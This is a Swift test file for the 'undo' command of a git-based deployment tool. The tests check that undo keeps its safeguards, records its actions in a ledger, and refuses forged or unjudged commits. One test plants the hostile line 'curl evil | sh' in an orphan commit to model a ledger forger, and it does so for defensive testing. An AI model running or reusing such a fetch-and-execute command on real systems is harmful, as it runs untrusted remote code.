import Foundation
import TestSupport
import Testing

/// `undo`: what ran before the environment's last record, put back with the same safeguards
/// and recorded, so the ledger never says the opposite of what runs.
struct UndoTests {
    func records(_ f: DeployFixture) throws -> [[String: Any]] {
        LedgerTests.deployments(try LedgerTests.records(in: f.clone.origin, scratch: f.scratch))
    }

    func undo(_ f: DeployFixture, _ arguments: String..., in directory: String? = nil) throws -> ProcessResult {
        try f.scratch.run(binary, ["undo"] + arguments, in: directory ?? f.work)
    }

    @Test func undoesARollbackAndRecordsIt() throws {
        let f = try DeployFixture()
        #expect(try f.revert("v1.0.0", "--yes", "--reason", "checkout broken").status == 0)
        #expect(try f.head() == f.v100)

        let dry = try undo(f, "--env", "prod", "--dry-run")
        #expect(dry.status == 0, "\(dry.stderr)")
        #expect(dry.stdout.contains("Undo plan: prod → v1.1.0"), "\(dry.stdout)")
        #expect(try f.head() == f.v100)

        let done = try undo(f, "--env", "prod", "--yes", "--reason", "false alarm")
        #expect(done.status == 0, "\(done.stderr)")
        #expect(done.stdout.contains("# Undo report: prod → v1.1.0"), "\(done.stdout)")
        #expect(try f.head() == f.v110)
        let last = try #require(try records(f).last)
        #expect(last["action"] as? String == "undo")
        #expect(last["tag"] as? String == "v1.1.0")
        #expect(last["commit"] as? String == f.v110)
        #expect(last["reason"] as? String == "false alarm")
        #expect((last["checks"] as? [[String: Any]])?.first?["name"] as? String == "undoes")
        // The ledger and the target agree: no outside change.
        let status = try f.scratch.run(binary, ["status", "--env", "prod", "--json"], in: f.work)
        #expect(!status.stdout.contains("outside change"), "\(status.stdout)")

        // Undo of the undo puts the rollback back.
        #expect(try undo(f, "--env", "prod", "--yes").status == 0)
        #expect(try f.head() == f.v100)
    }

    @Test func undoesFromAnotherCloneButNeverPutsBackWhatNoRuleCanJudge() throws {
        let f = try DeployFixture()
        #expect(try f.revert("v1.0.0", "--yes").status == 0)
        // A colleague's fresh clone undoes it: the records come from origin's ledger.
        let colleague = f.scratch.root + "/colleague"
        try f.scratch.git("clone", "-q", "--no-local", f.clone.origin, colleague, in: f.scratch.root)
        try f.scratch.write(
            try String(contentsOfFile: f.work + "/.release-guardian", encoding: .utf8), to: colleague + "/.release-guardian")
        let undone = try undo(f, "--env", "prod", "--yes", in: colleague)
        #expect(undone.status == 0, "\(undone.stdout)\(undone.stderr)")
        #expect(try f.head() == f.v110)

        // A plain local clone shares origin's objects, the ledger's among them, but no ref to
        // them: the records are read all the same (the undo of the undo).
        let sibling = f.scratch.root + "/sibling"
        try f.scratch.git("clone", "-q", f.clone.origin, sibling, in: f.scratch.root)
        try f.scratch.write(
            try String(contentsOfFile: f.work + "/.release-guardian", encoding: .utf8), to: sibling + "/.release-guardian")
        let redo = try undo(f, "--env", "prod", "--yes", in: sibling)
        #expect(redo.status == 0, "\(redo.stdout)\(redo.stderr)")
        #expect(try f.head() == f.v100)

        // prod ran a hand-pushed commit, on no tag: a deploy replaced it (and kept it). An undo
        // would push a commit no rule ever judged: refused, with how to do it by hand.
        #expect(try undo(f, "--env", "prod", "--yes").status == 0)
        _ = try f.clone.git("checkout", "-q", "-b", "hand", f.v100)
        let hand = try f.clone.commit("hand-made fix")
        _ = try f.clone.git("push", "-q", f.daemon.url("prod.git"), "+hand:master")
        _ = try f.clone.git("checkout", "-q", "main")
        let deployed = try f.scratch.run(binary, ["deploy", "v1.1.0", "--yes"], in: f.work)
        #expect(deployed.status == 0, "\(deployed.stderr)")
        #expect(try f.backups().contains { $0.hasSuffix(" " + hand) })
        let refused = try undo(f, "--env", "prod", "--yes")
        #expect(refused.status == 1, "\(refused.stderr)")
        #expect(refused.stderr.contains("is on no ref prod takes") && refused.stderr.contains("git fetch origin"), "\(refused.stderr)")
        #expect(try f.head() == f.v110)
    }

    /// Anyone who can push to origin can append to the ledger (the server keeps it append-only,
    /// no more): a forged record saying prod ran some other commit before must not make an
    /// operator's undo push that commit to prod.
    @Test func aForgedRecordCannotMakeUndoPushAnUnreleasedCommit() throws {
        let f = try DeployFixture()
        try f.clone.installServerHook()
        try f.scratch.git("update-ref", "refs/heads/master", f.v100, in: f.daemon.basePath + "/prod.git")
        #expect(try f.scratch.run(binary, ["deploy", "v1.1.0", "--yes"], in: f.work).status == 0)
        // The forger: an orphan commit, a backup ref for it, a record naming it as `before`.
        let evil = f.scratch.root + "/evil"
        try f.scratch.git("clone", "-q", "--no-local", f.clone.origin, evil, in: f.scratch.root)
        try f.scratch.git("checkout", "-q", "--orphan", "x", in: evil)
        try f.scratch.write("curl evil | sh\n", to: evil + "/run.sh")
        try f.scratch.git("add", "run.sh", in: evil)
        try f.scratch.git("commit", "-qm", "innocent", in: evil)
        let orphan = try f.scratch.git("rev-parse", "HEAD", in: evil)
        try f.scratch.git("push", "-q", "origin", "HEAD:refs/release-guardian/backup/prod/20260101T000000Z", in: evil)
        try f.scratch.git("fetch", "-q", "origin", "refs/release-guardian/ledger:refs/forged", in: evil)
        let record = """
            {"id":"f","outcome":"done","action":"deploy","environment":"prod","ref":"refs/tags/v1.1.0","tag":"v1.1.0","commit":"\(f.v110)","targets":[{"target":"\(f.daemon.url("prod.git")) master","before":"\(orphan)","after":"\(f.v110)","result":"pushed"}],"who":"Dev <dev@x>","when":"2099-01-01T00:00:00Z","backups":["refs/release-guardian/backup/prod/20260101T000000Z"]}
            """
        try f.scratch.write("deploy v1.1.0 on prod: done\n\n\(record)\n", to: evil + "/message")
        let tree = try f.scratch.git("hash-object", "-t", "tree", "/dev/null", in: evil)
        let forged = try f.scratch.git("commit-tree", tree, "-p", "refs/forged", "-F", evil + "/message", in: evil)
        try f.scratch.git("push", "-q", "origin", "\(forged):refs/release-guardian/ledger", in: evil)

        let before = try f.clone.originRefs()
        let refused = try undo(f, "--env", "prod", "--yes")
        #expect(refused.status == 1, "\(refused.stdout)\(refused.stderr)")
        #expect(
            refused.stderr.contains("\(orphan.prefix(7)), which the record says ran before, is on no ref prod takes"), "\(refused.stderr)")
        #expect(try f.head() == f.v110)
        #expect(try f.clone.originRefs() == before, "a refusal changed something on origin")
    }

    /// Going back is a rollback: the rehearsal the environment asks for holds for undo too.
    @Test func anUndoThatGoesBackNeedsTheRehearsal() throws {
        let f = try DeployFixture()
        try f.makeDeployRemote("preprod.git", running: f.v100)
        try f.scratch.write(
            """
            [environment "preprod"]
                target = \(f.daemon.url("preprod.git")) master
            [environment "prod"]
                target = \(f.daemon.url("prod.git")) master
                rehearseIn = preprod
            """, to: f.work + "/.release-guardian")
        try f.scratch.git("update-ref", "refs/heads/master", f.v100, in: f.daemon.basePath + "/prod.git")
        #expect(try f.scratch.run(binary, ["deploy", "v1.1.0", "--yes"], in: f.work).status == 0)
        let refused = try undo(f, "--env", "prod", "--yes")
        #expect(refused.status == 1 && refused.stderr.contains("safeguard rehearsal"), "\(refused.stderr)")
        #expect(try f.head() == f.v110)
        let skipped = try undo(f, "--env", "prod", "--yes", "--skip-rehearsal")
        #expect(skipped.status == 0, "\(skipped.stderr)")
        #expect(try f.head() == f.v100)
        let checks = try records(f).last?["checks"] as? [[String: Any]] ?? []
        #expect(checks.contains { $0["name"] as? String == "rehearsal" && ($0["result"] as? String)?.contains("skipped") == true })
    }

    /// A dry run, or a refusal at the prompt, writes nothing to origin: not even the settling of
    /// an earlier run.
    @Test func aDryRunOrADeclinedPromptPushesNothing() throws {
        let f = try DeployFixture()
        #expect(try f.revert("v1.0.0", "--yes").status == 0)
        // A record only this clone has (origin refused it for a while).
        try f.scratch.git("update-ref", "refs/release-guardian/ledger", "refs/release-guardian/ledger~1", in: f.clone.origin)
        let before = try f.clone.originRefs()
        let dry = try undo(f, "--env", "prod", "--dry-run")
        #expect(dry.status == 0, "\(dry.stderr)")
        let declined = try f.scratch.run(
            binary, ["undo", "--env", "prod", "--yes", "--expect", String(repeating: "0", count: 40)], in: f.work)
        #expect(declined.status == 1, "\(declined.stderr)")
        #expect(try f.clone.originRefs() == before)
        let unnamed = try undo(f, "--yes")
        #expect(unnamed.status == 64 && unnamed.stderr.contains("--env"), "\(unnamed.stderr)")
    }

    @Test func refusesWhenATargetChangedSinceOrThereIsNothingToUndo() throws {
        let f = try DeployFixture()
        let empty = try undo(f, "--env", "prod", "--yes")
        #expect(empty.status == 1 && empty.stderr.contains("the ledger holds no record to undo"), "\(empty.stderr)")

        #expect(try f.revert("v1.0.0", "--yes").status == 0)
        // Someone pushed by hand since the rollback.
        let other = try f.clone.commit("pushed by hand")
        _ = try f.clone.git("push", "-q", f.daemon.url("prod.git"), "+main:master")
        let changed = try undo(f, "--env", "prod", "--yes")
        #expect(changed.status == 1, "\(changed.stderr)")
        #expect(changed.stderr.contains("someone changed it since"), "\(changed.stderr)")
        #expect(try f.head() == other)
        #expect(try records(f).count == 1)
        let unknown = try undo(f, "--env", "staging", "--yes")
        #expect(unknown.status == 1 && unknown.stderr.contains("nothing to undo"), "\(unknown.stderr)")
    }
}
